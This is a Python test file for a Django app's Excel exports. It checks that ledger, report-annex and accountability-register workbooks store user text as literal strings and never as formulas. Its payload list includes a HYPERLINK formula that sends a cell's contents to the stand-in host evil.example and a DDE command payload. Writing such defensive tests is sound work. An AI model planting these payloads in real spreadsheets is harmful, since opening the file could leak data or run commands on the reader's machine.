"""Formula injection: every xlsx the product writes gets the same hostile payloads and must read
back with no formula cell and each payload kept as literal, quote-prefixed text.

Writers: the ledger export (page and admin), the weekly dispatch's annex (whole and a unit's
section), the monthly bulletin's annex (whole and a liaison's section) and the accountability
register's export.
"""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import pytest
import time_machine
from django.contrib.auth.models import Group
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from accountability.models import Case, CaseSource
from rectify.models import User
from rectify.roles import Role
from reports.models import ReportKind
from reports.selectors import bulletin_unit_section, dispatch_unit_section
from reports.services import report_preview
from reports.xlsx import bulletin_xlsx, dispatch_xlsx
from tasks.models import Task, Unit
from tasks.services import task_report_progress

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def assert_no_formulas(data: bytes, *, expect: list[str]) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    wb = load_workbook(io.BytesIO(data))
    seen: set[str] = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                    assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    # XML reads a bare CR back as LF
                    seen.update(p for p in expect if p.replace("\r", "\n") in cell.value.replace("\r", "\n"))
    assert seen == set(expect), f"payloads missing from the workbook: {set(expect) - seen}"


@pytest.fixture
def hostile_plan(plan, coal_liaison):
    """Four of the coal bureau's tasks carry the payloads in their title and deadline wording."""
    half = len(PAYLOADS) // 2
    tasks = list(Task.objects.filter(task_units__unit=coal_liaison.unit).order_by("number")[:half])
    for task, title, wording in zip(tasks, PAYLOADS[:half], PAYLOADS[half:], strict=True):
        Task.objects.filter(pk=task.pk).update(title=title, target=title, deadline_text=wording)
    return plan


def test_ledger_exports_write_no_formula(client, hostile_plan, office_user):
    client.force_login(office_user)
    response = client.get(reverse("tasks:ledger_export"))
    assert_no_formulas(b"".join(response.streaming_content), expect=PAYLOADS)
    response = client.get("/admin/tasks/task/export/")
    assert_no_formulas(b"".join(response.streaming_content), expect=PAYLOADS)


def test_dispatch_and_bulletin_annexes_write_no_formula(hostile_plan, coal_liaison):
    now = timezone.make_aware(dt.datetime(2018, 3, 1, 9, 0))
    with time_machine.travel(now, tick=False):
        for task in Task.objects.filter(title__in=PAYLOADS):
            task_report_progress(task=task, unit=coal_liaison.unit, author=coal_liaison, percent=10,
                                 text=task.title)
        dispatch = report_preview(kind=ReportKind.DISPATCH, now=now)
        bulletin = report_preview(kind=ReportKind.BULLETIN, now=now)
    assert_no_formulas(dispatch["xlsx"], expect=PAYLOADS)
    assert_no_formulas(dispatch_xlsx(dispatch_unit_section(dispatch["snapshot"], coal_liaison.unit_id)),
                       expect=PAYLOADS)
    assert_no_formulas(bulletin["xlsx"], expect=PAYLOADS)
    assert_no_formulas(bulletin_xlsx(bulletin_unit_section(bulletin["snapshot"], coal_liaison.unit_id)),
                       expect=PAYLOADS)


def test_accountability_export_writes_no_formula(client, plan):
    acc_officer = User.objects.create_user(username="acc", unit=Unit.objects.get(name="省纪委省监委"))
    acc_officer.groups.add(Group.objects.get_or_create(name=Role.ACCOUNTABILITY.value)[0])
    for i, payload in enumerate(PAYLOADS):
        Case.objects.create(reference=f"{payload}-{i}", source=CaseSource.TRANSFERRED, title=payload,
                            problem_text=payload, transferred_on=dt.date(2018, 1, 10), stage_entered_on=dt.date(2018, 1, 10),
                            handling_authority=payload)
    client.force_login(acc_officer)
    response = client.get(reverse("accountability:export"))
    assert response.status_code == 200
    assert_no_formulas(response.content, expect=PAYLOADS)
